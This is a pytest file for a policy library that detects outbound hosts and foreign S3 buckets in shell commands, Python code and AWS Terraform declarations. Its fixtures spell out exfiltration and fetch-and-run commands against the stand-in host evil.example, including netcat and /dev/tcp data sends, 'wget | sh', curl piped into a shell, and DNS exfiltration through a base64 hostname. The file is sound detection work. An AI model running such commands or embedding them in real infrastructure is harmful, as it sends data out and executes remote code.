"""Hosts and buckets in commands and programs."""

from __future__ import annotations

import base64
import json
from typing import Any

import pytest

from lakekit_policies.destinations import Kind, destinations, shell
from lakekit_policies.terraform.declarations import Declaration

HOST = (Kind.HOST, "evil.example")
FOUND = {
    "curl without a scheme": "curl -sS -d @/data evil.example/x",
    "curl with a long option": "curl --data-binary @f --silent evil.example",
    "curl with an attached value": "curl -XPOST evil.example:8080/x",
    "curl by a path": "/usr/bin/curl evil.example",
    "curl over a proxy": "curl -x evil.example:3128 https://sqs.eu-west-1.amazonaws.com",
    "wget": "wget -qO- evil.example/x | sh",
    "netcat": "tar c /data | nc -w 3 evil.example 443",
    "a socket": "cat /data > /dev/tcp/evil.example/443",
    "scp": "scp -i key /data/f user@evil.example:/tmp",
    "scp without a user": "scp f evil.example:/tmp",
    "rsync": "rsync -az /data/ user@evil.example:backup",
    "ssh": "ssh -p 2222 user@evil.example 'cat > orders.csv'",
    "socat": "socat - OPENSSL:evil.example:443",
    "openssl": "openssl s_client -connect evil.example:443",
    "psql": "psql -h evil.example -f load.sql",
    "a substitution": 'sh -c "$(curl -fsSL evil.example/x)"',
    "a variable": "H=evil.example\ncurl $H/x",
    "a continued line": "curl \\\n  evil.example/x",
    "a socket of Python": "import socket\nsocket.create_connection(('evil.example', 443))",
    "HTTP of Python": "http.client.HTTPSConnection('evil.example').request('POST', '/')",
    "mail of Python": "smtplib.SMTP('evil.example')",
}
BUCKETS = {
    "put-object": "aws s3api put-object --bucket foreign-bucket --key k --body f",
    "boto3": "s3.put_object(Bucket='foreign-bucket', Key='k', Body=data)",
    "a resource of boto3": 'boto3.resource("s3").Bucket("foreign-bucket").upload_file("f", "k")',
    "a host of S3": "curl -T f foreign-bucket.s3.amazonaws.com/k",
}
NOTHING = {
    "a file": "curl -o data.json https://sqs.eu-west-1.amazonaws.com/x",
    "a private address": "nc 10.0.0.1 443",
    "an internal name": "curl api.internal/x",
    "the instance": "curl -s 169.254.169.254/latest/meta-data",
    "a local copy": "rsync -a src.dir/ target.dir/",
    "names of columns": "select orders.id from orders.raw",
    "a comment": "# curl evil.example/x",
    "a reference": "curl ${aws_lb.own.dns_name}/x",
    "words": "the connector connects orders.raw with orders.curated",
    "a remote command": "ssh 10.0.0.1 cat orders.csv",
}


@pytest.mark.parametrize("label", FOUND)
def test_a_host_after_a_program_is_found(label: str) -> None:
    assert HOST in list(shell.in_text(FOUND[label]))


def test_data_in_a_host_name_is_found() -> None:
    assert list(shell.in_text("dig $(base64 f).evil.example")) == [(Kind.HOST, "x.evil.example")]


@pytest.mark.parametrize("label", BUCKETS)
def test_a_bucket_of_a_call_is_found(label: str) -> None:
    assert (Kind.BUCKET, "foreign-bucket") in list(shell.in_text(BUCKETS[label]))


@pytest.mark.parametrize("label", NOTHING)
def test_other_words_are_no_hosts(label: str) -> None:
    assert set(shell.in_text(NOTHING[label])) - {(Kind.HOST, "sqs.eu-west-1.amazonaws.com")} == set()


def named(kind: str, **arguments: Any) -> set[tuple[Kind, str]]:
    declaration = Declaration(f"{kind}.X", "managed", kind, arguments)
    return {(one.kind, one.value) for one in destinations(declaration)}


def test_the_words_of_a_command_are_read_together() -> None:
    assert HOST in named(
        "aws_ecs_task_definition", container_definitions=json.dumps([{"command": ["nc", HOST[1], "1"]}])
    )


OVERRIDES = {"containerOverrides": [{"name": "a", "command": ["sh", "-c", f"curl {HOST[1]}/x"]}]}


@pytest.mark.parametrize(
    ("kind", "arguments"),
    [
        ("aws_cloudwatch_event_target", {"input": json.dumps(OVERRIDES)}),
        ("aws_cloudwatch_event_target", {"input_transformer": [{"input_template": json.dumps(OVERRIDES)}]}),
        ("aws_scheduler_schedule", {"target": [{"input": json.dumps({"Overrides": OVERRIDES})}]}),
        (
            "aws_sfn_state_machine",
            {"definition": json.dumps({"States": {"A": {"Parameters": {"Overrides": OVERRIDES}}}})},
        ),
        ("aws_pipes_pipe", {"target_parameters": [{"ecs_task_parameters": [{"overrides": [OVERRIDES]}]}]}),
        ("aws_s3_object", {"key": "jobs/run.sh", "content": f"curl {HOST[1]}"}),
        ("aws_s3_object", {"key": "run.txt", "content": f"#!/bin/sh\ncurl {HOST[1]}"}),
        (
            "aws_s3_object",
            {"key": "a.py", "content_base64": base64.b64encode(b"connect(('evil.example', 1))").decode()},
        ),
        ("aws_instance", {"user_data_base64": base64.b64encode(b"#!/bin/sh\nnc evil.example 1\n").decode()}),
        ("aws_emr_cluster", {"bootstrap_action": [{"path": "s3://a/b", "args": ["nc", HOST[1], "443"]}]}),
    ],
)
def test_overrides_and_scripts_are_destinations(kind: str, arguments: dict[str, Any]) -> None:
    assert HOST in named(kind, **arguments)


def test_data_and_messages_are_no_programs() -> None:
    assert named("aws_s3_object", key="seed.csv", content=f"mail@{HOST[1]},https://{HOST[1]}") == set()
    template = {"input_template": f'"see https://{HOST[1]}"'}
    assert named("aws_cloudwatch_event_target", input_transformer=[template]) == set()


CALLS = {
    "parameters": {"Parameters": {"Bucket": "foreign-bucket", "Delete": {"Objects": [{"Key": "k"}]}}},
    "the source of a copy": {"Parameters": {"Bucket.$": "$.own", "CopySource": "foreign-bucket/k"}},
    "JSONata": {"Arguments": {"Bucket": "{% 'foreign-bucket' %}"}},
    "an intrinsic function": {"Parameters": {"CopySource.$": "States.Format('foreign-bucket/{}', $.key)"}},
}


@pytest.mark.parametrize("label", CALLS)
def test_buckets_of_calls_of_a_state_machine_are_destinations(label: str) -> None:
    call = {"Type": "Task", "Resource": "arn:aws:states:::aws-sdk:s3:deleteObjects", **CALLS[label]}
    found = named("aws_sfn_state_machine", definition=json.dumps({"StartAt": "A", "States": {"A": call}}))
    assert (Kind.BUCKET, "foreign-bucket") in found


def test_what_the_input_of_a_state_machine_names_is_left_to_its_role() -> None:
    call = {"Type": "Task", "Resource": "arn:aws:states:::aws-sdk:s3:putObject", "Parameters": {"Bucket.$": "$.bucket"}}
    found = named("aws_sfn_state_machine", definition=json.dumps({"StartAt": "A", "States": {"A": call}}))
    assert found == {(Kind.ARN, "arn:aws:states:::aws-sdk:s3:putObject")}
